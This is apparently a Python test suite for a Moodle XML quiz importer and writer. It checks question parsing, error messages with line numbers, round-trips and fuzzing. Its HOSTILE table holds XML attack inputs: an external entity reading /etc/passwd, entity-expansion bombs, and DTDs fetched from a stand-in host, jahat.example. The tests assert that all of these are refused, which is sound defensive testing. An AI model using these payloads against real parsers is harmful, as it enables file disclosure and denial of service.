"""Moodle XML is read without following anything, and what we write is read back the same."""

from dataclasses import replace
from time import perf_counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from literasi.domain.interchange.foreign_texts import FILE
from literasi.domain.interchange.moodle_xml import read_moodle_xml
from literasi.domain.interchange.moodle_xml_writing import write_moodle_xml
from literasi.domain.interchange.values import ForeignKind, Formatted, TextFormat
from tests.domain.interchange import foreign

CHOICE = """\
<question type="multichoice">
  <name><text>Banjir</text></name>
  <questiontext format="html">
    <text><![CDATA[<p>Mana <b>kanal</b> resminya?</p>]]></text>
    <file name="peta.png" path="/" encoding="base64">iVBORw0KGgo=</file>
  </questiontext>
  <generalfeedback format="html"><text>Lihat BMKG.</text></generalfeedback>
  <defaultgrade>2.0000000</defaultgrade>
  <single>true</single>
  <answer fraction="100" format="html"><text>BMKG</text><feedback><text>Ya.</text></feedback></answer>
  <answer fraction="0" format="plain_text"><text>Grup WA</text><feedback><text></text></feedback></answer>
  <tags><tag><text>air</text></tag></tags>
</question>
"""


def quiz(*questions):
    return "\n".join(['<?xml version="1.0" encoding="UTF-8"?>', "<quiz>", *questions, "</quiz>"]).encode()


def one(text):
    found = read_moodle_xml(quiz(text))
    assert (found.skipped, found.faults) == ((), ())
    (question,) = found.questions
    return question


def test_a_choice_is_read():
    question = one(CHOICE)

    assert (question.line, question.name, question.single) == (3, "Banjir", True)
    assert question.stem == Formatted("<p>Mana <b>kanal</b> resminya?</p>", TextFormat.HTML)
    assert [(choice.text.text, choice.grade, choice.feedback.text) for choice in question.choices] == [
        ("BMKG", 100, "Ya."),
        ("Grup WA", 0, ""),
    ]
    assert question.choices[1].text.form is TextFormat.PLAIN
    assert question.general.text == "Lihat BMKG."
    assert question.tags == ("air",)
    assert question.lost == (FILE, "nilai soal menjadi 1, seperti soal lain")


def test_true_and_false_stand_in_our_order():
    question = one("""<question type="truefalse"><name><text>a</text></name>
<questiontext format="markdown"><text>Hujan?</text></questiontext>
<answer fraction="100"><text>false</text><feedback><text>Kering.</text></feedback></answer>
<answer fraction="0"><text>true</text></answer></question>""")

    assert question.kind is ForeignKind.TRUE_FALSE
    assert [(choice.text.text, choice.grade) for choice in question.choices] == [("true", 0), ("false", 100)]
    assert question.choices[1].feedback.text == "Kering."


def test_categories_are_read_and_other_kinds_are_named():
    category = '<question type="category"><category><text>$course$/top/A</text></category></question>'
    kinds = ["matching", "essay", "cloze", "calculatedsimple"]
    others = [f'<question type="{kind}"><name><text>Satu</text></name></question>' for kind in kinds]
    found = read_moodle_xml(quiz(category, *others, CHOICE))

    assert found.questions[0].category == "$course$/top/A"
    assert [(remark.line, remark.what) for remark in found.skipped] == [
        (4, "menjodohkan: Satu"),
        (5, "esai: Satu"),
        (6, "isian di dalam teks (cloze): Satu"),
        (7, 'jenis "calculatedsimple": Satu'),
    ]


@pytest.mark.parametrize(
    ("change", "line", "words"),
    [
        (('fraction="100"', 'fraction="-15"'), 12, "Bobot -15%"),
        (('fraction="100"', 'fraction="nan"'), 12, "Bobot nan%"),
        (('fraction="100"', 'fraction="banyak"'), 12, "Bobot banyak%"),
        (("<![CDATA[<p>Mana <b>kanal</b> resminya?</p>]]>", " "), 3, "belum punya pertanyaan"),
        (("Lihat BMKG.", "a" * 20_001), 3, "terlalu panjang"),
        (('type="multichoice"', 'type="truefalse"'), 3, "tidak terbaca"),
        (("</tags>", "</tag>"), 14, "rusak"),
    ],
)
def test_what_is_broken_is_named_with_its_line(change, line, words):
    found = read_moodle_xml(quiz(CHOICE.replace(*change)))

    (problem,) = found.faults
    assert found.questions == ()
    assert problem.line == line
    assert words in problem.message


BOMB = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
HOSTILE = {
    "external": '<!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///etc/passwd">]><quiz><question>&x;</question></quiz>',
    "bomb": f'<!DOCTYPE quiz [<!ENTITY a0 "ha">{BOMB}]><quiz>&a9;</quiz>',
    "parameter": '<!DOCTYPE quiz [<!ENTITY % x SYSTEM "https://jahat.example/x.dtd"> %x;]><quiz/>',
    "system": '<!DOCTYPE quiz SYSTEM "https://jahat.example/x.dtd"><quiz/>',
    "public": '<!DOCTYPE quiz PUBLIC "-//x//y" "https://jahat.example/x.dtd"><quiz/>',
    "quadratic": f'<!DOCTYPE quiz [<!ENTITY a "{"a" * 50_000}">]><quiz>{"&a;" * 50_000}</quiz>',
    "html": "<!DOCTYPE html><quiz/>",
}


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_doctypes_and_entities_are_refused_unread(name, encoding):
    found = read_moodle_xml(HOSTILE[name].encode(encoding))

    assert [problem.message[:24] for problem in found.faults] == ["Berkas XML ini memuat DT"]


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"bukan xml",
        b"<kuis></kuis>",
        b"<quiz>&tidak-ada;</quiz>",
        b"<quiz>" + b"<a>" * 200_000,
        b"<?xml version='1.0' encoding='utf-7'?><quiz/>",
        b"<?xml version='1.0' encoding='tidak-ada'?><quiz/>",
        b"<?xml version='1.0' encoding='big5'?><quiz/>",
        b"<quiz>" + b"<question type='multichoice'/>" * 60_000 + b"</quiz>",
        b"x" * (2 * 1024 * 1024 + 1),
    ],
    ids=lambda data: data[:20],
)
def test_what_is_no_quiz_is_refused_in_words(data):
    start = perf_counter()
    found = read_moodle_xml(data)

    assert len(found.faults) == 1
    assert found.faults[0].mend
    assert perf_counter() - start < 2


def test_a_large_file_inside_takes_no_room():
    large = CHOICE.replace("iVBORw0KGgo=", "iVBORw0KGgo=" * 100_000)

    assert one(large).lost[0] == FILE


@given(st.lists(foreign.questions(empty_form=TextFormat.MOODLE), max_size=4))
def test_what_is_written_is_read_back(questions):
    found = read_moodle_xml(write_moodle_xml(questions))

    assert (found.skipped, found.faults) == ((), ())
    assert [replace(question, line=1) for question in found.questions] == questions


PIECES = st.sampled_from([*CHOICE.split("\n"), "<", ">", "&", "<![CDATA[", "]]>", "<!--", "<quiz>", "<?x?>"])


@given(st.binary() | st.lists(PIECES).map(lambda pieces: quiz(*pieces)))
def test_no_bytes_break_the_reader(data):
    read_moodle_xml(data)
